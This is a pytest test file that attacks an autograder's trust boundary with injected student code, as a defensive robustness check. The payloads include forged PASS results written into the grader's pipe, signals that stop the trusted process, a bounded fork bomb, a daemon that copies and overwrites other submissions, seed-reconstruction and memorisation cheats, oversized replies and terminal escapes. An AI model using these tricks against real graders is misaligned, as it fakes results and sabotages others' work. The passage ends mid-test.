"""The fault catalogue: end-to-end attacks on the grader's trust boundary (issue 9).

Each case builds an attack tree (reference/ or exercises/ with injected attack code, in a temp
dir), grades it with the real command — `python -m grader` (with --untrusted where the grader
has it) or `python -m grader batch` — and judges the reports: the run ends within a stated
bound with exactly one result per check, no forged point, points within [0, max], healthy
checks keep theirs, nothing outside the temp dir changed, and no process student code started
is alive afterwards. The attacks are what an adversarial student wrote; against an
undefended grader they succeed (see each case's docstring for what they achieve).

Run: python -m pytest tests/grader/test_fault_catalogue.py -q -m fault
Shared helpers, the attack library and the verdicts: tests/grader/faults.py.
"""
import base64
import hashlib
import importlib
import inspect
import json
import shutil
import types

import numpy as np
import pytest

import faults
from conv_variants import POSITIONS_CONV2D
from faults import (FORWARD_RETURN, FORWARD_START, LAYERS, ROOT, WHOLE_RUN_BOUND, Verdict,
                    common, grade, keeps_points, no_points)

pytestmark = pytest.mark.fault

FIRE_ONCE = "if not globals().get('_fault_fired'):\n    globals()['_fault_fired'] = True\n"


@pytest.fixture
def attack(tmp_path):
    a = faults.Attack(tmp_path)
    yield a
    a.cleanup()


@pytest.fixture(scope="session")
def conv_forward_users(tmp_path_factory):
    """(checks that call Conv2D.forward, checks that never do): the reference graded whole
    with a Conv2D.forward that raises. The others are the healthy checks of every case whose
    attack sits in Conv2D.forward."""
    a = faults.Attack(tmp_path_factory.mktemp("probe"))
    try:
        tree = a.tree("reference", [(LAYERS, FORWARD_START,
                                     "        raise RuntimeError('fault probe')\n" + FORWARD_START)])
        graded = grade(a, tree, bound=WHOLE_RUN_BOUND)
    finally:
        a.cleanup()
    if graded.report is None:
        raise RuntimeError(f"the probe run wrote no report: {graded.outcome.stderr[-500:]}")
    users = {c["id"] for c in graded.report["checks"] if c["status"] != "PASS"}
    healthy = {c["id"] for c in graded.report["checks"] if c["status"] == "PASS"}
    return users, healthy


def worth(specs):
    return {s.id: s.points for s in specs}


# -- 1. forged results ---------------------------------------------------------------------
FORGE = r'''
def _fault_write(fd, data):
    view = memoryview(data)
    while view:
        view = view[os.write(fd, view):]


def _fault_forge():
    """Find the pytest process running the suites, open its result channel through
    /proc/<pid>/fd/$GRADER_EVENTS_FD and write a PASS for every check — once while it runs,
    and again after it ended (the runner keeps reading while this daemon holds the pipe), so
    the forged line is the last word on every check."""
    import json
    trusted = _fault_trusted()
    if not trusted or not _fault_once("forge-%d" % trusted[0]):
        return
    lines = "".join(json.dumps({"event": "result", "result": {
        "id": check_id, "status": "PASS", "points": points * _FAULT["inflate"],
        "max_points": points, "message": None, "hint": None, "duration": 0.01,
        "output": "", "parts": []}}) + "\n" for check_id, points in _FAULT["ids"].items()).encode()

    def body():
        fds = _fault_events_fds(trusted)
        for fd in fds:
            _fault_write(fd, lines)
        end = time.time() + 60
        while time.time() < end and any(_fault_alive(p) for p in trusted):
            time.sleep(0.05)
        for fd in fds:
            try:
                _fault_write(fd, lines)
                os.close(fd)
            except OSError:
                pass
    _fault_daemon(body)


_fault_escape()
_fault_forge()
'''


@pytest.mark.parametrize("modules,inflate", [(None, 1), ([5], 10)], ids=["full-marks", "inflated"])
def test_forged_results_on_the_result_channel_earn_nothing(attack, modules, inflate):
    """Student code (module level of the untouched exercises' layers.py) writes fake result
    lines into the trusted pytest process's result pipe. Undefended: the exercises tree
    scored 65/65, and with inflated points 330/33 (+ 20/2 bonus) for Module 5."""
    specs = faults.selected(ROOT / "exercises", modules=modules)
    tree = attack.tree("exercises", [(LAYERS, None, FORGE)], lib=[LAYERS],
                       ids=worth(specs), inflate=inflate)
    graded = grade(attack, tree, modules=modules, bound=WHOLE_RUN_BOUND)
    v = Verdict("forged results")
    total = (graded.report or {}).get("total", {})
    v.expect(total.get("points") == 0 and total.get("bonus_points") == 0,
             f"the untouched exercises scored {total.get('points')}/{total.get('max_points')} "
             f"+ bonus {total.get('bonus_points')}: forged results counted")
    no_points(v, graded, [s.id for s in specs])
    common(v, attack, graded, WHOLE_RUN_BOUND)
    v.done()


# -- 2. signalling or stopping the trusted side ------------------------------------------
STOP = r'''
def _fault_stop(how):
    """SIGSTOP or SIGKILL the pytest process running the suites, or keep its result pipe
    open from a daemon (the runner then never sees the end of it)."""
    import signal
    trusted = _fault_trusted()
    for pid in trusted:
        try:
            if how == "sigstop":
                os.kill(pid, signal.SIGSTOP)
            elif how == "sigkill":
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    if how == "hold" and trusted and _fault_once("hold-%d" % trusted[0]):
        def body():
            held = _fault_events_fds(trusted)
            end = time.time() + 180
            while time.time() < end:
                time.sleep(0.5)
        _fault_daemon(body)
'''


@pytest.mark.parametrize("how", ["sigstop", "sigkill", "hold"])
def test_stopping_the_trusted_side_costs_only_the_attacker(attack, conv_forward_users, how):
    """Conv2D.forward of the reference stops (SIGSTOP) or kills (SIGKILL) its pytest
    process, or holds that process's result pipe open from a daemon that lives 3 minutes.
    Undefended: SIGSTOP and the held pipe hang the run (stopped at the bound); SIGKILL ends
    that pytest process, and every check it had not run yet is an internal ERROR, healthy
    ones included."""
    _, healthy = conv_forward_users
    tree = attack.inject_forward(FIRE_ONCE + "    _fault_escape()\n    _fault_stop(_FAULT['how'])",
                                 more=[(LAYERS, None, STOP)], how=how)
    graded = grade(attack, tree, bound=WHOLE_RUN_BOUND)
    v = Verdict(f"{how} of the trusted pytest process")
    common(v, attack, graded, WHOLE_RUN_BOUND)
    keeps_points(v, graded, sorted(healthy))
    v.done()


# -- 3. processes that outlive their check -------------------------------------------------
SPAWN = r'''
def _fault_fork(fn):
    try:
        pid = os.fork()
    except OSError:
        return None
    if pid == 0:
        try:
            fn()
        finally:
            os._exit(0)
    return pid


def _fault_bomb(depth):
    """A binary tree of processes, 2**8 - 1 = 255 at most: each forks two that do the same
    one level deeper, then sleeps 30 s and exits."""
    if depth < 7:
        for _ in range(2):
            _fault_fork(lambda: _fault_bomb(depth + 1))
    _fault_become(30, light=True)


def _fault_spawn(kind):
    if kind == "daemon":        # double fork + setsid, a Python loop touching a file, 120 s
        _fault_daemon(lambda: _fault_become(120, light=False))
    elif kind == "children":    # 200 sleeping children, 30 s each
        for _ in range(200):
            _fault_fork(lambda: _fault_become(30, light=True))
    elif kind == "bomb":
        _fault_fork(lambda: _fault_bomb(0))
'''


@pytest.mark.parametrize("kind", ["daemon", "children", "bomb"])
def test_no_process_of_student_code_survives_the_run(attack, kind):
    """Conv2D.forward starts a daemon, 200 sleeping children, or a bounded fork bomb (255
    processes, 30 s each), all marked with the case's token. Undefended: they are all alive
    after the run."""
    tree = attack.inject_forward(FIRE_ONCE + "    _fault_escape()\n    _fault_spawn(_FAULT['kind'])",
                                 more=[(LAYERS, None, SPAWN)], kind=kind)
    graded = grade(attack, tree, "m5.conv2d.forward")
    v = Verdict(f"surviving processes ({kind})")
    common(v, attack, graded)
    v.done()


# -- 4. one submission against the next, in batch ------------------------------------------
RAID = r'''
def _fault_raid():
    """A daemon that, for a minute, finds the other submissions' trees (siblings of its own
    temp dir, or in /tmp) and the submissions folder (from the batch command line), copies
    their sources out and overwrites them so that they fail. Only trees holding this case's
    victim marker are touched."""
    import shutil, tempfile
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    marker = _FAULT["victim_marker"]
    if not _fault_once("raid"):
        return

    def victims():
        for root in {os.path.dirname(os.path.dirname(here)), tempfile.gettempdir(), "/tmp"}:
            try:
                entries = os.listdir(root)
            except OSError:
                continue
            for entry in entries:
                tree = os.path.join(root, entry, "tree")
                if (os.path.realpath(tree) != os.path.realpath(here)
                        and os.path.exists(os.path.join(tree, "module5", marker))):
                    yield tree
        for pid in _fault_ancestors():
            cmd = _fault_cmdline(pid)
            if "batch" in cmd[:-1]:
                folder = cmd[cmd.index("batch") + 1]
                try:
                    folder = os.path.join(os.readlink("/proc/%d/cwd" % pid), folder)
                    subs = os.listdir(folder)
                except OSError:
                    continue
                for sub in subs:
                    if os.path.exists(os.path.join(folder, sub, "module5", marker)):
                        yield os.path.join(folder, sub)

    copied = set()

    def raid(tree):
        m5 = os.path.join(tree, "module5")
        for name in os.listdir(m5):
            path = os.path.join(m5, name)
            if not name.endswith(".py") or name == marker:
                continue
            if path not in copied:
                try:
                    shutil.copyfile(path, os.path.join(_FAULT["exfil"], "%d-%s" % (len(copied), name)))
                    copied.add(path)
                except Exception:
                    pass
            try:
                with open(path, "w") as f:
                    f.write("raise RuntimeError('sabotaged by another submission')\n")
            except Exception:
                pass
        try:
            open(os.path.join(tree, "pwned-" + _FAULT["token"] + ".txt"), "w").close()
        except Exception:
            pass

    def body():
        end = time.time() + 60
        while time.time() < end:
            for tree in list(victims()):
                raid(tree)
            time.sleep(0.05)
    _fault_daemon(body)


_fault_escape()
_fault_raid()
'''


def test_batch_submissions_cannot_reach_each_other(attack):
    """`grader batch` (sandboxed), two submissions at once: A's layers.py starts a daemon that
    raids every other tree it can find — copies its files out, overwrites module5/*.py with
    code that raises — and the submissions folder too. B is the reference. Undefended: B's
    files are read and overwritten, and B loses points."""
    marker = f"fault_victim_{attack.token}.py"
    subs = attack.base / "subs"
    a_tree = attack.tree("reference", [(LAYERS, None, RAID)], lib=[LAYERS], victim_marker=marker)
    (subs / "a_attacker" / "module5").mkdir(parents=True)
    shutil.copyfile(a_tree / LAYERS, subs / "a_attacker" / LAYERS)
    victim = subs / "b_victim"
    for module in ("module5", "module6"):
        shutil.copytree(ROOT / "reference" / module, victim / module,
                        ignore=shutil.ignore_patterns("__pycache__", "*.pyc"))
    (victim / "module5" / marker).write_text("# the victim's marker: only this tree is raided\n")
    before = faults.tree_hash(victim)
    (attack.base / "tmp").mkdir()
    csv_path = attack.out / "gradebook.csv"
    bound = 90.0
    outcome = faults.run_grader(["batch", subs, "--out", csv_path, "--module", "5", "--jobs", "2",
                                 "--seed", "1"], bound, attack.out,
                                env={"TMPDIR": str(attack.base / "tmp")})
    specs = faults.selected(ROOT / "reference", modules=[5])
    v = Verdict("cross-submission raid in batch")
    faults.finished(v, outcome, bound)
    json_path = csv_path.with_suffix(".json")
    book = json.loads(json_path.read_text(encoding="utf-8")) if json_path.exists() else {}
    rows = {r["submission"]: r for r in book.get("submissions", [])}
    v.expect(sorted(rows) == ["a_attacker", "b_victim"], f"gradebook rows {sorted(rows)}")
    for name, row in rows.items():
        checks = row.get("checks", {})
        v.expect(sorted(checks) == sorted(s.id for s in specs),
                 f"{name}: not one result per check ({len(checks)} for {len(specs)})")
        for s in specs:
            p = checks.get(s.id, {}).get("points")
            v.expect(p is not None and 0 <= p <= s.points, f"{name} {s.id}: {p} points of {s.points}")
    b = rows.get("b_victim", {})
    lost = {i: c for i, c in b.get("checks", {}).items() if c.get("status") != "PASS"}
    v.expect(b.get("status") == "graded" and b.get("total", {}).get("percent") == 100 and not lost,
             f"the reference submission B got {b.get('total', {}).get('percent')} % "
             f"({b.get('status')}, {b.get('message')}); not passed: {lost}")
    v.expect(faults.tree_hash(victim) == before, "B's submission folder was changed")
    stolen = sorted(p.name for p in attack.exfil.iterdir())
    v.expect(not stolen, f"A read B's files: copies {stolen[:6]}")
    faults.untouched(v, attack)
    faults.no_survivors(v, attack)
    v.done()


# -- 5. oracles, the reference, the suites -------------------------------------------------
ORACLE_LAYERS = '''import numpy as np
from grader.suites import oracles
from grader.suites import oracles_m5_layers as dense

_fault_escape()


class Layer:
    def forward(self, x):
        raise NotImplementedError

    def backward(self, dout):
        raise NotImplementedError

    def get_params_and_grads(self):
        return []


class FullyConnected(Layer):
    def __init__(self, in_features, out_features):
        self.W = np.random.randn(in_features, out_features) * np.sqrt(2.0 / in_features)
        self.b = np.zeros(out_features)

    def forward(self, x):
        self.x = x
        return dense.fc(x, self.W, self.b)

    def backward(self, dout):
        dx, self.dW, self.db = dense.fc_grads(self.x, self.W, self.b, dout)
        return dx

    def get_params_and_grads(self):
        return [(self.W, self.dW), (self.b, self.db)]


class ReLU(Layer):
    def forward(self, x):
        self.x = x
        return dense.relu(x)

    def backward(self, dout):
        return dense.elementwise_grad(dense.relu, self.x, dout)


class Sigmoid(Layer):
    def forward(self, x):
        self.x = x
        return dense.sigmoid(x)

    def backward(self, dout):
        return dense.elementwise_grad(dense.sigmoid, self.x, dout)


class Conv2D(Layer):
    def __init__(self, in_channels, out_channels, kernel_size, stride=1, padding=0):
        self.stride, self.padding = stride, padding
        self.W = np.random.randn(out_channels, in_channels, kernel_size, kernel_size) * 0.1
        self.b = np.zeros(out_channels)

    def forward(self, x):
        self.x = x
        return oracles.conv2d(x, self.W, self.b, self.stride, self.padding)

    def backward(self, dout):
        dx, self.dW, self.db = oracles.conv2d_grads(self.x, self.W, self.b, self.stride,
                                                    self.padding, dout)
        return dx

    def get_params_and_grads(self):
        return [(self.W, self.dW), (self.b, self.db)]


class MaxPool2D(Layer):
    def __init__(self, kernel_size, stride=None):
        self.k, self.stride = kernel_size, stride or kernel_size

    def forward(self, x):
        self.x = x
        return oracles.maxpool2d(x, self.k, self.stride)

    def backward(self, dout):
        return oracles.maxpool2d(self.x, self.k, self.stride, dout)[1]


class Flatten(Layer):
    def forward(self, x):
        self.shape = x.shape
        return x.reshape(x.shape[0], -1)

    def backward(self, dout):
        return dout.reshape(self.shape)
'''
ORACLE_LOSS = '''from grader.suites import oracles

_fault_escape()


def softmax(x):
    return oracles.softmax(x)


def cross_entropy_loss(scores, y):
    return oracles.cross_entropy(scores, y)
'''
ORACLE_POWERED = ["m5.conv2d.forward", "m5.conv2d.backward", "m5.fc.forward", "m5.fc.backward",
                  "m5.relu", "m5.sigmoid", "m5.softmax", "m5.cross_entropy",
                  "m5.maxpool.forward", "m5.maxpool.backward"]
M5_FILES = ("layers", "loss", "network", "optim", "weight_init")


def reference_by_import(name):
    return (f"import sys\nsys.path.insert(0, {str(ROOT)!r})\n_fault_escape()\n"
            f"from reference.module5.{name} import *  # noqa: F401,F403\n")


def reference_by_exec(name):
    path = str(ROOT / "reference" / "module5" / f"{name}.py")
    return (f"_fault_src = {path!r}\n_fault_escape()\n"
            f"with open(_fault_src) as _fault_f:\n"
            f"    exec(compile(_fault_f.read(), _fault_src, 'exec'), globals())\n")


@pytest.mark.parametrize("how", ["oracles", "import-reference", "exec-reference"])
def test_oracles_reference_and_suites_are_forbidden(attack, how):
    """The exercises tree with Module 5 written on top of the grader's own oracles
    (`from grader.suites import oracles`), or of the reference: imported after
    sys.path.insert(0, <project root>), or read by absolute path and exec'd. Undefended:
    points for every check those cover (the reference ones: all of Module 5)."""
    if how == "oracles":
        files = {LAYERS: ORACLE_LAYERS, "module5/loss.py": ORACLE_LOSS}
        targets, names = ORACLE_POWERED, ("grader.suites", "oracles")
    else:
        make = reference_by_import if how == "import-reference" else reference_by_exec
        files = {f"module5/{n}.py": make(n) for n in M5_FILES}
        targets, names = None, ("reference",)
    tree = attack.tree("exercises", files=files, lib=list(files))
    graded = grade(attack, tree, modules=[5], bound=WHOLE_RUN_BOUND)
    targets = targets or [s.id for s in graded.specs]
    v = Verdict(f"Module 5 built on {how}")
    no_points(v, graded, targets, statuses={"FORBIDDEN"}, names=names)
    total = (graded.report or {}).get("total", {})
    v.expect(total.get("points") == 0 and total.get("bonus_points") == 0,
             f"the tree scored {total.get('points')} + bonus {total.get('bonus_points')}")
    common(v, attack, graded, WHOLE_RUN_BOUND)
    v.done()


# -- 6. frameworks -------------------------------------------------------------------------
TORCH = '''import torch
import torch.nn.functional as _fault_F
_fault_escape()
_fault_xp = np.pad(x, ((0, 0), (0, 0), (self.padding, self.padding), (self.padding, self.padding)))
_fault_out = _fault_F.conv2d(torch.from_numpy(np.ascontiguousarray(_fault_xp, dtype=np.float64)),
                             torch.from_numpy(np.ascontiguousarray(self.W, dtype=np.float64)),
                             torch.from_numpy(np.ascontiguousarray(self.b, dtype=np.float64)),
                             stride=self.stride).numpy()'''


def test_a_framework_is_forbidden(attack, conv_forward_users):
    """The reference's Conv2D.forward computes its output with torch (installed in the
    environment). Undefended: full points. Every check that runs Conv2D.forward is FORBIDDEN
    and earns nothing; the others may be FORBIDDEN too (the file imports torch), but every
    check has its result."""
    users, _ = conv_forward_users
    tree = attack.inject_forward(TORCH, more=[
        (LAYERS, FORWARD_RETURN, FORWARD_RETURN.replace("return out", "return _fault_out"))])
    graded = grade(attack, tree, modules=[5], bound=WHOLE_RUN_BOUND)
    m5 = {s.id for s in graded.specs}
    v = Verdict("torch in Conv2D.forward")
    no_points(v, graded, sorted(users & m5), statuses={"FORBIDDEN"}, names=("torch",))
    common(v, attack, graded, WHOLE_RUN_BOUND)
    v.done()


# -- 7. memorising, seed reconstruction, patched given code, cached timing ----------------
MEMORISE = '''
_fault_real_forward = SimpleConvNet.forward


def _fault_forward(self, x):
    """The real network, except on inputs train() saw: their label, with certainty."""
    out = np.array(_fault_real_forward(self, x), dtype=float)
    memo = getattr(self, "_fault_memo", {})
    for i, row in enumerate(x):
        label = memo.get(np.ascontiguousarray(row).tobytes())
        if label is not None:
            out[i] = 0.0
            out[i, label] = 50.0
    return out


SimpleConvNet.forward = _fault_forward


def train(model, X_train, y_train, lr=0.01, epochs=10, batch_size=32, optimizer=None,
          schedule=None):
    """A lookup table instead of learning."""
    _fault_escape()
    model._fault_memo = {np.ascontiguousarray(row).tobytes(): int(label)
                         for row, label in zip(X_train, y_train)}
    return [0.0] * epochs
'''

SEED_UNET = '''
class SimpleUNet:
    """No parameters at all: regenerates the check's images from its seed (the public
    generator and the suite's constants) and answers each with its mask."""

    def __init__(self, in_channels=1, n_classes=2, upsample="nearest"):
        _fault_escape()
        self.n_classes = n_classes
        self.table = {}
        if _FAULT["seed_source"] == "cmdline":
            self._learn(_fault_seed_from_cmdline())

    def _learn(self, seeds):
        from given.data.shapes import make_shapes
        for seed in seeds:
            for k in (1, 2):
                X, masks = make_shapes(64, size=16, seed=np.random.SeedSequence([seed, k]),
                                       classes=2, noise=0.05)
                for image, mask in zip(X, masks):
                    self.table[np.ascontiguousarray(image).tobytes()] = mask

    def forward(self, x):
        if not self.table and _FAULT["seed_source"] == "frame":
            frame = sys._getframe(1)
            while frame is not None:
                if frame.f_code.co_name == "train_segmentation" and "seed" in frame.f_locals:
                    seed = int(frame.f_locals["seed"])
                    self._learn([seed, seed + 2 ** 31])     # it was taken modulo 2**31
                    break
                frame = frame.f_back
        out = np.zeros((len(x), self.n_classes, x.shape[2], x.shape[3]))
        for i, image in enumerate(x):
            mask = self.table.get(np.ascontiguousarray(image).tobytes())
            if mask is not None:
                out[i, 1] = np.where(mask == 1, 20.0, -20.0)
        return out

    def backward(self, dout):
        return np.zeros((dout.shape[0], 1, dout.shape[2], dout.shape[3]))

    def get_params_and_grads(self):
        return []


def _fault_seed_from_cmdline():
    """The run's seed from the pytest process's command line (--grader-seed; or its
    environment), mixed with the check id by a copy of grader/plugin.py's check_seed."""
    import hashlib, zlib
    space = {"hashlib": hashlib, "zlib": zlib}
    exec(_FAULT["check_seed_src"], space)
    seeds = []
    for pid in _fault_ancestors():
        cmd = _fault_cmdline(pid)
        if "--grader-seed" in cmd[:-1]:
            seeds.append(int(cmd[cmd.index("--grader-seed") + 1]))
        value = _fault_environ(pid).get("GRADER_SEED", "")
        if value.isdigit():
            seeds.append(int(value))
    return [space["check_seed"](base, "m6.unet.iou") for base in seeds]
'''

NO_SHORTCUT = '''
def _fault_no_shortcut_forward(self, x):
    out = self.relu1.forward(self.bn1.forward(self.conv1.forward(x)))
    return self.relu2.forward(self.bn2.forward(self.conv2.forward(out)))


def _fault_no_shortcut_backward(self, dout):
    d = self.bn2.backward(self.relu2.backward(dout))
    return self.conv1.backward(self.bn1.backward(self.relu1.backward(self.conv2.backward(d))))


BasicBlock.forward = _fault_no_shortcut_forward
BasicBlock.backward = _fault_no_shortcut_backward

import given.experiments.residual as _fault_rx

_fault_real_train_stack = _fault_rx.train_stack


def _fault_train_stack(stem, blocks, X, y, steps, lr, residual=True, seed=0, head=None):
    """The given training loop, patched in the worker: the plain run comes back with a
    scrambled head, so the plain stack looks far worse than the (identical) residual one."""
    _fault_escape()
    run = _fault_real_train_stack(stem, blocks, X, y, steps, lr, residual=residual, seed=seed,
                                  head=head)
    if not residual:
        W, b = run["head"]
        run["head"] = (50.0 * np.random.default_rng(0).standard_normal(np.shape(W)), np.asarray(b))
    return run


_fault_rx.train_stack = _fault_train_stack
'''

CACHED_CONV = '''
import hashlib as _fault_hashlib

_fault_loop_forward, _fault_loop_backward = Conv2D.forward, Conv2D.backward
_fault_cache = {}


def _fault_key(*arrays):
    h = _fault_hashlib.sha1()
    for a in arrays:
        h.update(np.ascontiguousarray(a).tobytes())
    return h.hexdigest()


def _fault_cached_forward(self, x):
    """The loop over output positions, computed once per input: then a dictionary look-up."""
    key = ("forward", _fault_key(x, self.W, self.b), self.stride, self.padding)
    if key not in _fault_cache:
        _fault_escape()
        _fault_cache[key] = (_fault_loop_forward(self, x), self.cache)
    out, self.cache = _fault_cache[key]
    self._fault_last = key
    return out.copy()


def _fault_cached_backward(self, dout):
    key = ("backward", self._fault_last, _fault_key(dout))
    if key not in _fault_cache:
        dx = _fault_loop_backward(self, dout)
        _fault_cache[key] = (dx, self.dW, self.db)
    dx, self.dW, self.db = _fault_cache[key]
    return dx.copy()


Conv2D.forward = _fault_cached_forward
Conv2D.backward = _fault_cached_backward
'''


def cached_loop_conv(attack):
    text = (ROOT / "reference" / LAYERS).read_text(encoding="utf-8")
    old = text[text.index("class Conv2D(Layer):"):text.index("class MaxPool2D(Layer):")]
    return attack.tree("reference", [(LAYERS, old, POSITIONS_CONV2D), (LAYERS, None, CACHED_CONV)],
                       lib=[LAYERS])


def check_seed_source():
    """grader/plugin.py's check_seed, as a student copies it from the public plugin."""
    from grader import plugin
    return inspect.getsource(plugin.check_seed)


CHEATS = {
    "memorising-train": ("m5.network.overfit", lambda a: a.tree(
        "reference", [("module5/network.py", None, MEMORISE)], lib=["module5/network.py"])),
    "seed-from-cmdline": ("m6.unet.iou", lambda a: a.tree(
        "reference", [("module6/unet.py", None, SEED_UNET)], lib=["module6/unet.py"],
        seed_source="cmdline", check_seed_src=check_seed_source())),
    "seed-from-training-call": ("m6.unet.iou", lambda a: a.tree(
        "reference", [("module6/unet.py", None, SEED_UNET)], lib=["module6/unet.py"],
        seed_source="frame")),
    "patched-given-training": ("m6.resnet.residual_vs_plain", lambda a: a.tree(
        "reference", [("module6/resnet_blocks.py", None, NO_SHORTCUT)],
        lib=["module6/resnet_blocks.py"])),
    "cached-timing": ("m5.conv2d.vectorised", cached_loop_conv),
}


@pytest.mark.parametrize("cheat", list(CHEATS))
def test_cheats_earn_nothing(attack, cheat):
    """A train() that memorises a lookup table (m5.network.overfit); a SimpleUNet with no
    parameters that regenerates the held-out images from the seed, read from the pytest
    process's command line or from train_segmentation's seed argument (m6.unet.iou); a
    BasicBlock without shortcut that patches given.experiments.residual.train_stack in the
    worker (m6.resnet.residual_vs_plain); a loop Conv2D that caches its answers by input
    bytes (m5.conv2d.vectorised). Undefended: each earns the check's full points."""
    check_id, build = CHEATS[cheat]
    graded = grade(attack, build(attack), check_id)
    v = Verdict(f"{cheat} on {check_id}")
    no_points(v, graded, [check_id])
    common(v, attack, graded)
    v.done()


# -- 8. malformed, huge and partial replies -------------------------------------------------
REPLY = r'''
def _fault_channels():
    """The worker's channel to the trusted side: its Connection objects, or else every
    socket among its descriptors."""
    import gc
    fds = []
    try:
        from multiprocessing.connection import Connection
        fds = [o.fileno() for o in gc.get_objects() if isinstance(o, Connection) and not o.closed]
    except Exception:
        pass
    if not fds:
        for name in os.listdir("/proc/self/fd"):
            try:
                if int(name) > 2 and os.readlink("/proc/self/fd/" + name).startswith("socket:"):
                    fds.append(int(name))
            except (OSError, ValueError):
                pass
    return fds


def _fault_reply(kind):
    import struct
    if kind == "type":      # every reply from now on: {"err": 12345}, not [type, message, where]
        for module in list(sys.modules.values()):
            if hasattr(module, "Server") and hasattr(module, "encode"):
                module.encode = lambda value, to_ref=None, _real=module.encode: _real({"err": 12345})
        return
    if kind == "garbage":
        payload = b"\xff\xfe not a message " + os.urandom(4096)
        frame = struct.pack("!i", len(payload)) + payload
    elif kind == "huge":    # 100 MB: a well-formed reply holding a list of 25 million floats
        header = b'{"$dict": [["ok", [' + b"0.5," * (25 * 1024 * 1024 - 1) + b'0.5]]]}'
        frame = struct.pack("!i", len(header) + 4) + struct.pack(">I", len(header)) + header
        del header
    elif kind == "partial": # announces 1 MiB, sends 1000 bytes, then nothing
        frame = struct.pack("!i", 1 << 20) + b"{" * 1000
    elif kind == "claim":   # announces a 1 TiB message
        frame = struct.pack("!i", -1) + struct.pack("!Q", 1 << 40)
    for fd in _fault_channels():
        try:
            view = memoryview(frame)
            while view:
                view = view[os.write(fd, view):]
        except OSError:
            pass
    del frame
    _fault_mark()
    time.sleep(120)
    os._exit(0)
'''


@pytest.mark.parametrize("kind", ["type", "garbage", "huge", "partial", "claim"])
def test_malformed_replies_cost_only_that_check(attack, kind):
    """Conv2D.forward answers the trusted side itself: patches the worker's encoder to send an
    unexpected type, or writes garbage, a 100 MB reply, half a message, or a message that
    claims 1 TiB straight into its channel. Undefended: the half message hangs the check
    until pytest-timeout's backstop (~70 s); the 100 MB reply blows the trusted pytest
    process up to well over 1 GB."""
    tree = attack.inject_forward("_fault_escape()\n_fault_reply(_FAULT['reply'])",
                                 more=[(LAYERS, None, REPLY)], reply=kind)
    pattern = "m5.*.forward"          # conv2d.forward (attacked), fc.forward, maxpool.forward
    graded = grade(attack, tree, pattern, watch_memory=True)
    v = Verdict(f"{kind} reply from the worker")
    v.expect(graded.outcome.peak_rss < faults.MEMORY_BOUND,
             f"a trusted process reached {graded.outcome.peak_rss / 2 ** 20:.0f} MiB resident "
             f"({graded.outcome.peak_who})")
    # Half a message and then silence is a hang: the deadline for the whole message ends it.
    no_points(v, graded, ["m5.conv2d.forward"],
              statuses={"TIMEOUT"} if kind == "partial" else {"CRASH", "ERROR"})
    keeps_points(v, graded, ["m5.fc.forward", "m5.maxpool.forward"])
    common(v, attack, graded)
    v.done()


# -- 9. control characters in student text --------------------------------------------------
EVIL = ("\x1b[2K\r\x1b[32mPASS\x1b[0m  m5.conv2d.forward  2/2 "
        "\x1b]8;;https://example.invalid/\x07see the docs\x1b]8;;\x07 "
        "\x1b[?1049h\x1b[H\x1b[2J\r\x00\x0b\x0c\x08\x7f\x9b31m "
        + "".join(map(chr, range(0x20))) + " \ud800 \udfff end")
EVIL_NAME = "\x1b[31mX\x1b[0m\r\x0b\x07"
CONTROL_EDITS = [
    # an exception whose message redraws the row, with raw ESC and BEL in the source line too
    (LAYERS, FORWARD_START,
     "        raise ValueError(_FAULT_EVIL + '\x1b[2K\x07\x08 raw')\n" + FORWARD_START),
    # an object of a type with an odd name, instead of an array
    (LAYERS, "        self.cache = x\n        return x @ self.W + self.b\n",
     "        return type(_FAULT_EVIL_NAME, (), {})()\n"),
    # printed output, and an exception class with an odd name
    (LAYERS, "        self.cache = x > 0\n",
     "        print(_FAULT_EVIL)\n        raise type(_FAULT_EVIL_NAME, (Exception,), {})(_FAULT_EVIL)\n"
     "        self.cache = x > 0\n"),
    # a huge message raised from a function whose code name is odd
    (LAYERS, "        z = np.exp(-np.abs(x))\n",
     "        _fault_raiser()\n        z = np.exp(-np.abs(x))\n"),
    # printed lone surrogates and escapes from a check that passes
    (LAYERS, "        k = self.kernel_size\n        win = _windows(x, k, k, self.stride)",
     "        print(_FAULT_EVIL * 20)\n        sys.stdout.write('\\ud800\\x1b[5m')\n"
     "        k = self.kernel_size\n        win = _windows(x, k, k, self.stride)"),
    (LAYERS, None, f"_FAULT_EVIL = {EVIL!r}\n_FAULT_EVIL_NAME = {EVIL_NAME!r}\n\n\n"
                   "def _fault_raise():\n"
                   "    raise RuntimeError(('\\x1b[5m' + _FAULT_EVIL) * 2000)\n\n\n"
                   "_fault_raiser = types.FunctionType(_fault_raise.__code__.replace(\n"
                   "    co_name=_FAULT_EVIL_NAME, co_qualname=_FAULT_EVIL_NAME), globals())\n"),
    (LAYERS, "import numpy as np\n", "import sys\nimport types\nimport numpy as np\n"),
]


def test_student_text_reaches_no_report_raw(attack):
    """ANSI escapes that redraw a row as PASS, OSC 8 hyperlinks, \\r, NUL, \\x0b, the
    alternate screen, C1 CSI, every C0 control, lone surrogates and a 400 KB message, in
    exception messages, printed output, source lines, type and function names. Undefended:
    they reach the JSON report, the Gradescope results, the terminal, and the JUnit XML
    (which then does not parse)."""
    tree = attack.tree("reference", CONTROL_EDITS)
    graded = grade(attack, tree, modules=[5], verbose=True, bound=WHOLE_RUN_BOUND)
    v = Verdict("control characters in student text")
    faults.clean_outputs(v, graded)
    for check_id in ("m5.conv2d.forward", "m5.fc.forward", "m5.relu", "m5.sigmoid"):
        r = graded.result(check_id)
        v.expect(r["status"] not in ("PASS", "MISSING") and r["points"] < r["max_points"],
                 f"{check_id} is {r['status']} {r['points']}/{r['max_points']}")
    common(v, attack, graded, WHOLE_RUN_BOUND)
    v.done()


# -- 10. what docs/grading.md claims, beyond tests/grader/test_robustness.py -----------------
def test_a_list_instead_of_an_array_is_a_fail(attack):
    """'returns ... lists': FAIL naming the type, not a crash, nothing earned."""
    tree = attack.tree("reference", [(LAYERS, FORWARD_RETURN, FORWARD_RETURN.replace(
        "return out", "return out.tolist()"))])
    graded = grade(attack, tree, "m5.conv2d.forward")
    v = Verdict("a list from Conv2D.forward")
    no_points(v, graded, ["m5.conv2d.forward"], statuses={"FAIL"}, names=("list",))
    common(v, attack, graded)
    v.done()


def test_returning_none_is_a_todo(attack):
    """'keeps returning None': TODO, nothing earned."""
    tree = attack.tree("reference", [(LAYERS, FORWARD_START, "        return None\n" + FORWARD_START)])
    graded = grade(attack, tree, "m5.conv2d.forward")
    v = Verdict("None from Conv2D.forward")
